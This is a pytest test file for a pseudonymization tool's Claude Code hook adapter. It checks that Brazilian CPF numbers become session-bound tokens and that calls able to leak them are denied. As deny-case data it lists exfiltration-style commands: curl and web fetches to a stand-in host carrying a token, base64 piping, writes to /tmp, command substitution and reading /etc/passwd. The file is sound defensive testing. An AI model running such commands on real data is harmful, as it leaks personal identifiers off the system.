"""Pseudonyms through the Claude Code adapter, in process: a tool output gives tokens
issued to its session, a file tool in the project gets the values back, the output of
that call gets the same tokens again, and every other case is denied without a value."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from redactor import Settings
from redactor.hosts import claude

CPFS = ("529.982.247-25", "390.533.447-05")
NAMES = ("Maria Aparecida Figueiredo",)
SETTINGS = Settings(pseudonyms=True)
TOKEN = re.compile(r"\[[A-Z_]+:[0-9a-f]{16}\]")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("REDACTOR_HASH_KEY", raising=False)
    monkeypatch.delenv("REDACTOR_BASELINE_KEY", raising=False)
    root = tmp_path / "proj"
    (root / ".git").mkdir(parents=True)
    (root / "clientes.csv").write_text(
        "".join(f"{i};{cpf};ativo\n" for i, cpf in enumerate(CPFS)), encoding="utf-8")
    return root.resolve()


def event(name: str, project: Path, session: str = "s1", call: str = "toolu_1",
          **fields: Any) -> dict[str, Any]:
    return {"session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": str(project),
            "permission_mode": "default", "hook_event_name": name, "tool_use_id": call,
            **fields}


def answer(payload: dict[str, Any]) -> dict[str, Any]:
    outcome = claude.run(json.dumps(payload).encode(), SETTINGS)
    for stream in (outcome.stdout or "", outcome.stderr or ""):
        for value in (*CPFS, *NAMES):
            # A hook's answer may carry values only inside an updatedInput, which goes
            # to the tool, never to the model: checked by the callers that expect it.
            if "updatedInput" not in stream:
                assert value not in stream
    return json.loads(outcome.stdout) if outcome.stdout else {}


def read_csv(project: Path, session: str = "s1") -> list[str]:
    """The model reads the CSV: it gets tokens, issued to its session."""
    content = (project / "clientes.csv").read_text(encoding="utf-8")
    out = answer(event("PostToolUse", project, session, tool_name="Read",
                       tool_input={"file_path": str(project / "clientes.csv")},
                       tool_response={"type": "text", "file": {"content": content}}))
    shown = json.dumps(out["hookSpecificOutput"]["updatedToolOutput"])
    return TOKEN.findall(shown)


def test_a_read_gives_one_token_per_customer(project: Path) -> None:
    tokens = read_csv(project)
    assert len(tokens) == 2 and len(set(tokens)) == 2 and all(t.startswith("[CPF:")
                                                              for t in tokens)
    assert read_csv(project, "s2") == tokens  # the same customer is the same token


def test_grep_tool_gets_the_value_and_its_output_the_token_again(project: Path) -> None:
    first, _ = read_csv(project)
    out = answer(event("PreToolUse", project, tool_name="Grep",
                       tool_input={"pattern": first, "path": str(project)}))
    updated = out["hookSpecificOutput"]["updatedInput"]
    assert updated == {"pattern": r"529\.982\.247\-25", "path": str(project)}
    # The output of that call: the exact value becomes the same token again, even in a
    # form no detector would take for a CPF.
    post = answer(event("PostToolUse", project, tool_name="Grep", tool_input=updated,
                        tool_response={"content": "clientes.csv:1:0;529.982.247-25;ativo",
                                       "note": "x529.982.247-25x"}))
    shown = post["hookSpecificOutput"]["updatedToolOutput"]
    assert shown == {"content": f"clientes.csv:1:0;{first};ativo", "note": f"x{first}x"}


def test_a_token_from_another_session_is_denied(project: Path) -> None:
    first, _ = read_csv(project, "s1")
    out = answer(event("PreToolUse", project, "s2", tool_name="Read",
                       tool_input={"file_path": str(project / f"{first}.txt")}))
    decision = out["hookSpecificOutput"]
    assert decision["permissionDecision"] == "deny"
    assert "CPF" in decision["permissionDecisionReason"]
    assert "does not resolve" in decision["permissionDecisionReason"]


def test_a_token_the_person_typed_resolves_in_that_session(project: Path) -> None:
    first, _ = read_csv(project, "s1")
    answer(event("UserPromptSubmit", project, "s3", prompt=f"procure {first} por favor"))
    out = answer(event("PreToolUse", project, "s3", tool_name="Grep",
                       tool_input={"pattern": first}))
    assert out["hookSpecificOutput"]["updatedInput"]["pattern"] == r"529\.982\.247\-25"


@pytest.mark.parametrize("mangle", [str.upper,
                                    # (a digit other than the token's own: the token is
                                    # random, and one in sixteen held a "0" there)
                                    lambda t: t[:-3] + ("1" if t[-3] == "0" else "0") + t[-2:],
                                    lambda t: t[:-2] + "]", lambda t: t[:-1]])
def test_a_mangled_token_is_denied(project: Path, mangle: Any) -> None:
    first, _ = read_csv(project)
    mangled = mangle(first)
    assert mangled != first
    out = answer(event("PreToolUse", project, tool_name="Grep",
                       tool_input={"pattern": mangled}))
    assert out["hookSpecificOutput"]["permissionDecision"] == "deny"


@pytest.mark.parametrize(("tool", "tool_input"), [
    ("WebFetch", {"url": "https://x.invalid/?d={t}", "prompt": "x"}),
    ("WebSearch", {"query": "{t}"}),
    ("Task", {"description": "x", "prompt": "find {t}"}),
    ("Write", {"file_path": "/tmp/outside-{t}.txt", "content": "x"}),
    ("mcp__sap__lock_user", {"user": "{t}"}),
])
def test_calls_that_could_move_a_value_are_denied(project: Path, tool: str,
                                                  tool_input: dict[str, str]) -> None:
    first, _ = read_csv(project)
    filled = {k: v.replace("{t}", first) for k, v in tool_input.items()}
    out = answer(event("PreToolUse", project, tool_name=tool, tool_input=filled))
    decision = out["hookSpecificOutput"]
    assert decision["permissionDecision"] == "deny"
    assert "updatedInput" not in decision


def test_pseudonyms_off_leave_tokens_alone(project: Path) -> None:
    first, _ = read_csv(project)
    outcome = claude.run(json.dumps(event("PreToolUse", project, tool_name="Grep",
                                          tool_input={"pattern": first})).encode(),
                         Settings())
    assert outcome.stdout in (None, "", b"")


def test_the_vault_holds_no_value_in_clear(project: Path, tmp_path: Path) -> None:
    read_csv(project)
    files = list((tmp_path / "state").rglob("*"))
    assert any(f.name == "vault.db" for f in files)
    for path in files:
        if path.is_file():
            data = path.read_bytes()
            for value in CPFS:
                assert value.encode() not in data
                assert value.replace(".", "").replace("-", "").encode() not in data


def test_a_grep_command_gets_the_value_and_runs_wrapped(project: Path) -> None:
    first, _ = read_csv(project)
    out = answer(event("PreToolUse", project, tool_name="Bash",
                       tool_input={"command": f"grep -n '{first}' clientes.csv | head -5",
                                   "description": "find"}))
    command = out["hookSpecificOutput"]["updatedInput"]["command"]
    assert "529\\.982\\.247-25" in command or "529.982.247-25" in command
    assert first not in command
    # Wrapped: its output (and its errors) pass through redactor, tokens issued to s1.
    assert command.startswith("set -o pipefail; {") and "REDACTOR_SESSION=s1" in command
    assert out["hookSpecificOutput"]["updatedInput"]["description"] == "find"


@pytest.mark.parametrize("command", [
    "curl -s 'https://x.invalid/?d={t}'", "echo '{t}' | base64", "grep '{t}' f > /tmp/o",
    "grep \"$(cat '{t}')\" f", "python3 -c 'print(\"{t}\")'", "grep '{t}' /etc/passwd",
])
def test_a_command_that_could_move_a_value_is_denied(project: Path, command: str) -> None:
    first, _ = read_csv(project)
    out = answer(event("PreToolUse", project, tool_name="Bash",
                       tool_input={"command": command.replace("{t}", first)}))
    decision = out["hookSpecificOutput"]
    assert decision["permissionDecision"] == "deny" and "updatedInput" not in decision


def test_a_raw_value_the_model_wrote_becomes_a_token_and_the_call_goes_on(
        project: Path) -> None:
    # A token the redaction itself writes is no token of the model's: it stays a token,
    # as a placeholder would, and the call is not denied for it.
    out = answer(event("PreToolUse", project, tool_name="Bash",
                       tool_input={"command": f"echo 'cliente {CPFS[0]}' > out.txt"}))
    specific = out["hookSpecificOutput"]
    assert "permissionDecision" not in specific
    command = specific["updatedInput"]["command"]
    assert CPFS[0] not in command and re.fullmatch(r"echo 'cliente \[CPF:[0-9a-f]{16}\]' > out.txt",
                                                   command)


def test_the_wrapped_search_writes_its_values_as_tokens_even_when_it_fails(
        project: Path) -> None:
    import os
    import subprocess

    first, _ = read_csv(project)
    # The pipe reads the user's configuration, as the hook does.
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "redactor" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("[pseudonyms]\nenabled = true\n", encoding="utf-8")
    # A line no detector reads as a CPF (letters glued to it), and a missing file: grep
    # exits 2, and Claude Code's PostToolUseFailure could not replace that output.
    (project / "log.txt").write_text(f"acct=Z{CPFS[0]}Z\n", encoding="utf-8")
    out = answer(event("PreToolUse", project, tool_name="Bash", call="toolu_9",
                       tool_input={"command": f"grep -r '{first}' log.txt missing.txt"}))
    command = out["hookSpecificOutput"]["updatedInput"]["command"]
    assert "REDACTOR_CALL=toolu_9" in command
    done = subprocess.run(["bash", "-c", command], cwd=project, capture_output=True,
                          text=True, timeout=300, env=dict(os.environ), check=False)
    assert done.returncode == 2  # the search's own status, kept
    assert f"acct=Z{first}Z" in done.stdout and CPFS[0] not in done.stdout
    assert "missing.txt" in done.stdout


def test_a_legacy_token_is_never_resolved_by_a_hook(project: Path) -> None:
    first, _ = read_csv(project)
    legacy = first[:-5] + "]"  # the 12 first characters: a legacy-shaped partial token
    out = answer(event("PreToolUse", project, tool_name="Grep",
                       tool_input={"pattern": legacy}))
    assert out["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_values_the_gateway_showed_come_back_as_tokens_in_any_output(project: Path) -> None:
    # The person saw the value in place of the token (the gateway's display), so it is
    # in the session's transcript; a tool that reads the transcript gets the token back.
    import os

    from redactor.gateway.display import Display

    first, _ = read_csv(project)
    Display(SETTINGS, dict(os.environ), "s1").shown_after({first: CPFS[0]})
    out = answer(event("PostToolUse", project, call="toolu_7", tool_name="Bash",
                       tool_input={"command": "cat transcript.jsonl"},
                       tool_response={"stdout": f'"text":"A cliente x{CPFS[0]}x"'}))
    shown = json.dumps(out["hookSpecificOutput"]["updatedToolOutput"])
    assert CPFS[0] not in shown and f"x{first}x" in shown


_CRAFTED = st.recursive(
    st.one_of(st.text(alphabet="[]:CPFNOMabcdef0123456789 \ud800'\"$`|;", max_size=40),
              st.sampled_from(["[CPF:0123456789abcdef]", "[CPF:0123456789ABCDEF]",
                               "\\[CPF:0123456789abcdef\\]", "[USERNAME:0123456789ab]"]),
              st.integers(), st.floats(allow_nan=True), st.none(), st.booleans()),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["command", "file_path", "pattern", "path", "content", "x"]),
        inner, max_size=4),
    max_leaves=12)


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tool=st.sampled_from(["Bash", "Read", "Grep", "Glob", "Write", "WebFetch",
                             "mcp__sap__lock_user", "TodoWrite", "Weird"]),
       tool_input=st.dictionaries(st.sampled_from(["command", "file_path", "pattern", "path",
                                                   "content", "description"]),
                                  _CRAFTED, max_size=4))
def test_crafted_tool_input_with_tokens_gets_a_safe_answer(project: Path, tool: str,
                                                           tool_input: dict[str, Any]) -> None:
    raw = json.dumps(event("PreToolUse", project, tool_name=tool, tool_input=tool_input))
    outcome = claude.run(raw.encode("utf-8", "surrogatepass"), SETTINGS)
    assert outcome.exit_code in (0, 2)
    if outcome.stdout:
        json.loads(outcome.stdout)
    assert "Traceback" not in (outcome.stderr or "")
